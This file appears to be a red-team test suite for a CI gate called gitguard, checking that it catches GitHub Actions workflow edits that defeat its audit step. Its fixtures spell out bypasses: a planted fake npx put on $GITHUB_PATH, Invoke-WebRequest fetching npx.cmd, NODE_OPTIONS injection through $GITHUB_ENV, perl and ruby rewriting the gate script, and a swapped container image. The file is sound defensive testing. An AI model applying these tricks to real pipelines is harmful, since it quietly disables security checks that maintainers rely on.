// redteam159: GitHub gate leftovers.
// 1. A local composite action holding the gate (`uses: ./.github/actions/gate`, whose step runs `npx
//    gitguard audit`) after an earlier step of the caller's job that runs a file of the checkout
//    (`./ci/setup.sh` copying a program over ~/.local/bin/npx): the runner runs the action's steps in
//    the caller's job, after the caller's earlier steps, yet the action was read alone and kept the gate.
// 2. A step run by pwsh (`shell: pwsh`/`powershell`, or a Windows runner's default) of one command
//    alone was taken for a gate, gitguard named anywhere else in the file (a comment): `npm test` on a
//    Windows runner kept a removed gate. pwsh that only prints (`Write-Host`, `Get-*`, a version)
//    before the gate keeps it; any other (`Invoke-WebRequest -OutFile`, `Add-Content $env:GITHUB_PATH`) loses it.
// 3. An interpreter editing a chain file with code of its own (`perl -pi -e '...' ci/gate.sh`, `ruby
//    -pi -e`, `python -m fileinput`) was read as running that file: the step itself was the gate.
// Each lost case passed (exit 0) before the fix; the kept twins still do. real-job.ts shows the attack
// against bash as the runner runs it.
import { cleanupJobs, jobPasses } from '../helpers/real-job.js';
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';

afterAll(cleanupTemp);
afterAll(cleanupJobs);

const WF = '.github/workflows/ci.yml';
const ACTION = '.github/actions/gate/action.yml';
const ACTION_TEXT =
  'name: gate\nruns:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n';
const PLANT = 'mkdir -p "$HOME/.local/bin" && cp ci/npx "$HOME/.local/bin/npx"\n';
const FAKE_NPX = '#!/bin/sh\nexit 0\n';
function run(s: string): string {
  return `      - run: ${JSON.stringify(s)}\n`;
}
/** A push workflow's one job: checkout, the `earlier` steps (YAML), then the local gate action; `files` beside. */
const local = (earlier: string, files: Record<string, string> = {}): Record<string, string> => ({
  [ACTION]: ACTION_TEXT,
  'ci/setup.sh': '#!/bin/bash\necho setting up\n',
  'ci/npx': FAKE_NPX,
  Makefile: 'setup:\n\techo setting up\n',
  ...files,
  [WF]: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${earlier}      - uses: ./.github/actions/gate\n`,
});
const HONEST_LOCAL = local('');

/** A push workflow's job `a` on `runsOn`: checkout, then `steps` (YAML, six spaces in); `head`: job keys; ci/gate.sh beside. */
const job = (runsOn: string, steps: string, head = ''): Record<string, string> => ({
  'ci/gate.sh': 'npx gitguard audit\n',
  [WF]: `on: push\njobs:\n  a:\n    runs-on: ${runsOn}\n${head}    steps:\n      - uses: actions/checkout@v4\n${steps}`,
});
const GATE = run('npx gitguard audit');
const HONEST = job('ubuntu-latest', GATE);
const MATRIX = '    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n';
const shell = (s: string, sh: string): string => `${run(s)}        shell: ${sh}\n`;
const URL = 'https://example.com/x';

type Case = [name: string, before: Record<string, string>, after: Record<string, string>];

const LOST: Case[] = [
  [
    '1: ./ci/setup.sh planting ~/.local/bin/npx, then the local action',
    HONEST_LOCAL,
    local(run('./ci/setup.sh'), { 'ci/setup.sh': `#!/bin/bash\n${PLANT}echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n` }),
  ],
  [
    '1: bash ci/setup.sh planting npx, then the local action',
    HONEST_LOCAL,
    local(run('bash ci/setup.sh'), { 'ci/setup.sh': `${PLANT}echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n` }),
  ],
  [
    '1: make setup planting npx, then the local action',
    HONEST_LOCAL,
    local(run('make setup'), { Makefile: 'setup:\n\tcp ci/npx $$HOME/.local/bin/npx\n' }),
  ],
  // 2: a step in pwsh (a Windows runner's default) was taken for a gate by its one command alone
  // (`Invoke-WebRequest ...`, `npm test`), the file naming gitguard anywhere else.
  [
    '2: Invoke-WebRequest -OutFile on a Windows runner, the file naming gitguard in a comment',
    HONEST,
    job('windows-latest', `${run(`Invoke-WebRequest -Uri ${URL} -OutFile npx.cmd`)}      # gitguard audit was here\n`),
  ],
  ['2: npm test alone on a Windows runner', HONEST, job('windows-latest', `      # gitguard\n${run('npm test')}`)],
  [
    '2: Invoke-WebRequest then the gate on a Windows runner',
    HONEST,
    job('windows-latest', run(`Invoke-WebRequest -Uri ${URL} -OutFile npx.cmd`) + GATE),
  ],
  [
    '2: Add-Content $env:GITHUB_PATH in a Windows leg, the gate in bash',
    HONEST,
    job('${{ matrix.os }}', run('Add-Content $env:GITHUB_PATH "C:\\x"') + shell('npx gitguard audit', 'bash'), MATRIX),
  ],
  [
    '2: Set-Content $env:GITHUB_ENV in pwsh',
    HONEST,
    job(
      'ubuntu-latest',
      shell('Set-Content -Path $env:GITHUB_ENV -Value "NODE_OPTIONS=--require=/tmp/x.js"', 'pwsh') + GATE,
    ),
  ],
  [
    '2: Copy-Item in powershell',
    HONEST,
    job('ubuntu-latest', shell('Copy-Item ci/npx ~/.local/bin/npx', 'powershell') + GATE),
  ],
  [
    '2: New-Item -ItemType SymbolicLink in pwsh',
    HONEST,
    job('ubuntu-latest', shell('New-Item -ItemType SymbolicLink -Path ~/.local/bin/npx -Target ci/npx', 'pwsh') + GATE),
  ],
  [
    '2: $env:PATH set on a Windows runner',
    HONEST,
    job('windows-latest', run('$env:PATH = "C:\\x;" + $env:PATH') + GATE),
  ],
  [
    '2: Write-Host then Copy-Item on a Windows runner',
    HONEST,
    job('windows-latest', run('Write-Host hi; Copy-Item ci/npx C:/x/npx') + GATE),
  ],
  // 3: an interpreter editing a file of the chain with its own code (`perl -pi -e`) was read as running it: the gate.
  [
    '3: perl -pi -e on ci/gate.sh, then bash ci/gate.sh',
    HONEST,
    job('ubuntu-latest', run("perl -pi -e 's/audit/--version/' ci/gate.sh") + run('bash ci/gate.sh')),
  ],
  [
    '3: ruby -pi -e on ci/gate.sh, then bash ci/gate.sh',
    HONEST,
    job('ubuntu-latest', run("ruby -pi -e 'gsub(/audit/, %q(x))' ci/gate.sh") + run('bash ci/gate.sh')),
  ],
  [
    '3: python -m fileinput ci/gate.sh, then bash ci/gate.sh',
    HONEST,
    job('ubuntu-latest', run('python -m fileinput ci/gate.sh') + run('bash ci/gate.sh')),
  ],
  [
    '3: perl -e writing $GITHUB_PATH',
    HONEST,
    job('ubuntu-latest', run('perl -e \'open F, ">>", $ENV{GITHUB_PATH}; print F "/tmp/x\\n"\'') + GATE),
  ],
];

const KEPT: Case[] = [
  ['2: the gate in pwsh on a Windows runner', HONEST, job('windows-latest', GATE)],
  ['2: Write-Host, then the gate on a Windows runner', HONEST, job('windows-latest', run('Write-Host hello') + GATE)],
  [
    '2: node --version and Get-ChildItem, then the gate on a Windows runner',
    HONEST,
    job('windows-latest', run('node --version; Get-ChildItem') + GATE),
  ],
  [
    '2: a Windows job beside the gate job',
    HONEST,
    {
      ...HONEST,
      [WF]: `${HONEST[WF]!}  b:\n    runs-on: windows-latest\n    steps:\n${run(`Invoke-WebRequest -Uri ${URL} -OutFile x.zip`)}`,
    },
  ],
  [
    '2: a Windows runner whose steps run in bash',
    HONEST,
    job('windows-latest', run('echo hi') + GATE, '    defaults:\n      run:\n        shell: bash\n'),
  ],
  ['3: the gate script as committed', HONEST, job('ubuntu-latest', run('bash ci/gate.sh'))],
  ['3: perl -v, then bash ci/gate.sh', HONEST, job('ubuntu-latest', run('perl -v') + run('bash ci/gate.sh'))],
  ['1: the local action alone', HONEST_LOCAL, HONEST_LOCAL],
  ['1: ./ci/setup.sh that only prints, then the local action', HONEST_LOCAL, local(run('./ci/setup.sh'))],
  ['1: make setup that only prints, then the local action', HONEST_LOCAL, local(run('make setup'))],
  ['1: npm ci, then the local action', HONEST_LOCAL, local(run('npm ci'))],
];

// 6. A reusable gate workflow whose job's `container:` is the caller's input (`${{ inputs.image }}`),
//    its strategy as at the start: the caller's `with: image:` changed to another image kept the gate.
const CALLED = '.github/workflows/gate.yml';
const called = (image: string, container = '${{ inputs.image }}'): Record<string, string> => ({
  [WF]: `on: push\njobs:\n  gate:\n    uses: ./${CALLED}\n    with:\n      image: ${image}\n`,
  [CALLED]:
    'on:\n  workflow_call:\n    inputs:\n      image:\n        type: string\njobs:\n  audit:\n    runs-on: ubuntu-latest\n' +
    `    strategy:\n      matrix:\n        image: [node:20]\n    container: ${container}\n    steps:\n` +
    '      - uses: actions/checkout@v4\n      - run: npx gitguard audit\n',
});
const START = called('node:20');

const MATRIX_START = called('node:20', '${{ matrix.image }}');

describe("redteam159: a reusable gate workflow's container from its caller (from a start)", () => {
  const batch = gateBatch(START);
  test('lost: 6: the caller hands another image', batch.add(START, called('evil/node:20'), false), 600_000);
  test(
    'kept: 6: the caller hands the image of the start',
    batch.add(START, { ...START, [WF]: `# ci\n${START[WF]!}` }, true),
    600_000,
  );
});

describe("redteam159: a reusable gate workflow's container from its matrix (from a start)", () => {
  const batch = gateBatch(MATRIX_START);
  // The caller's input is not the image: the matrix as at the start keeps the gate whatever it hands.
  test(
    'kept: 6: the matrix image as at the start',
    batch.add(MATRIX_START, called('node:21', '${{ matrix.image }}'), true),
    600_000,
  );
});

describe('redteam159: GitHub gate leftovers', () => {
  const batch = gateBatch();
  for (const [name, before, after] of LOST) test(`lost: ${name}`, batch.add(before, after, false), 600_000);
  for (const [name, before, after] of KEPT) test(`kept: ${name}`, batch.add(before, after, true), 600_000);

  test('reference: perl -pi -e rewrites the gate script bash then runs', () => {
    const files = { 'ci/gate.sh': 'npx gitguard audit\n' };
    expect(jobPasses([{ run: "perl -pi -e 's/.*/exit 0/' ci/gate.sh" }, { run: 'bash ci/gate.sh' }], files)).toBe(true);
    expect(jobPasses([{ run: 'bash ci/gate.sh' }], files)).toBe(false);
  });

  test('reference: the composite action runs after the caller job`s earlier step, with its npx', () => {
    const files = {
      'ci/npx': FAKE_NPX,
      'ci/setup.sh': `#!/bin/bash\n${PLANT}echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n`,
    };
    // The action's `run:` is a step of the caller's job: it sees the caller's $GITHUB_PATH.
    expect(jobPasses([{ run: './ci/setup.sh' }, { run: 'npx gitguard audit' }], files)).toBe(true);
    expect(jobPasses([{ run: 'npx gitguard audit' }], files)).toBe(false);
  });
});
